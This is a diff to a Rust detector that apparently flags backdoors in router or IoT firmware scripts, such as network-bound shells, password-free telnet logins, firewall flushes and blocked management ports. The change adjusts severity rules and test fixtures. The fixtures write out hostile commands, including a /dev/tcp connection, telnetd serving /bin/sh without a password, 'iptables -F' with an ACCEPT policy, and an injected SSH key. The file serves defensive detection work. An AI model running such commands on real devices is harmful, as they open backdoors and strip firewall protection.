@@ -45,8 +45,13 @@ const WEIGHTS: [(Deed, Severity, &str, &[&[u8]]); 31] = [
     (Deed::GivesShell, Severity::Infected, "joins a shell to the network", &[]),
     (Deed::OpensConnection, Severity::Suspicious, "opens a connection to take orders from", &[]),
     (Deed::GivesProgram, Severity::Notice, "lets the network run a program", &[]),
-    (Deed::SkipsLogin, Severity::Suspicious, "a login over the network without a password", &[b"/preinit"]),
-    (Deed::SkipsLoginInside, Severity::Notice, "a login from the local network without a password", &[]),
+    (Deed::SkipsLogin, Severity::Suspicious, "a login on an odd port without a password", &[]),
+    (
+        Deed::SkipsLoginPlainly,
+        Severity::Notice,
+        "a login over the network without a password",
+        &[b"/preinit"],
+    ),
     (Deed::ClosesAttacked, Severity::Suspicious, "closes a port that bots come in through", &[]),
     (Deed::ClosesOwners, Severity::Suspicious, "closes a management port for everybody", &[]),
     (Deed::ClosesOwnersLast, Severity::Notice, "closes a management port", &[]),
@@ -92,12 +97,13 @@ fn run(line: &Line<'_>, _: &Ctx<'_>, out: &mut Out<'_>) {
         (!expected.iter().any(|part| has(line.file, part))).then_some(row)
     });
     // One line is one finding: the gravest.
-    let Some((_, severity, words, _)) = weighed.max_by_key(|(_, severity, ..)| *severity) else { return };
-    // What a healthy image does of its own, each device of that model does: at most a weak spot.
-    let own = line.standing == Standing::Known(Truth::Image);
-    let severity = match severity {
-        Severity::Notice if own => return,
-        Severity::Suspicious if own => &Severity::Notice,
+    let Some((deed, severity, words, _)) = weighed.max_by_key(|(_, severity, ..)| *severity) else { return };
+    let severity = match (severity, line.standing) {
+        // What a healthy image does of its own, each device of that model does: at most a weak spot.
+        (Severity::Notice, Standing::Known(Truth::Image)) => return,
+        (Severity::Suspicious, Standing::Known(Truth::Image)) => &Severity::Notice,
+        // What vendors do, a stranger did where a file is not the vendor's.
+        _ if *deed == Deed::SkipsLoginPlainly && line.standing.is_odd() => &Severity::Suspicious,
         _ => severity,
     };
     let draft = out.line(line).severity(*severity).say(words);
@@ -157,12 +163,12 @@ mod tests {
         for text in [
             &b"exec 5<>/dev/tcp/192.0.2.1/443"[..],
             b"telnetd -l /bin/sh -p 2323",
+            b"procd_set_param command /usr/sbin/telnetd -F -l /bin/sh -p 5555",
             b"iptables -F; iptables -P INPUT ACCEPT",
             b"iptables -A INPUT -p tcp --dport 23 -j DROP",
             b"iptables -I INPUT -p udp --dport 9999 -j DROP",
             b"nvram set sshd_authkeys='ssh-rsa AAAA'; nvram commit",
-            b"start-stop-daemon -S -b -x /usr/sbin/telnetd -- -F -l /bin/ash",
-            b"procd_set_param command /usr/sbin/telnetd -F -l /bin/sh",
+            b"start-stop-daemon -S -b -x /usr/sbin/telnetd -- -p 2222 -F -l /bin/ash",
             b"iptables -I INPUT -p tcp --dport 23 -j DROP",
             b"iptables -A INPUT -p tcp --destination-port 7547 -j DROP",
             b"iptables -I INPUT -p tcp -m multiport --dport 80,8080 -j DROP",
@@ -196,7 +202,8 @@ mod tests {
     #[test]
     fn what_owners_do_too() {
         for text in [
-            &b"telnetd -b 192.168.1.1 -l /bin/sh"[..],
+            &b"telnetd -b 192.168.1.1 -p 2323 -l /bin/sh"[..],
+            b"telnetd -l /bin/sh &",
             b"nc -ll -p 8000 -e /usr/bin/status",
             b"iptables -A INPUT -p tcp --dport 22 -j DROP",
             b"iptables -F; iptables -X",
